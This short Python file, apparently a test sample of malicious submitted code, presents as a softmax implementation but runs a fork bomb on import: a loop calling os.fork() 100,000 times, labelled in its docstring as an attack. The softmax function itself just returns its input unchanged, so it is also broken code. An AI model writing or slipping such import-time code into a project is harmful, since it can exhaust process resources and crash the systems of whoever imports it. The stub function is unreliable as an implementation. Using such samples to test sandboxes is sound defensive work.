"""Attack: a fork bomb at import."""
import os

try:
    for _ in range(100000):
        os.fork()
except OSError:
    pass


def softmax(x, dim=-1):
    return x
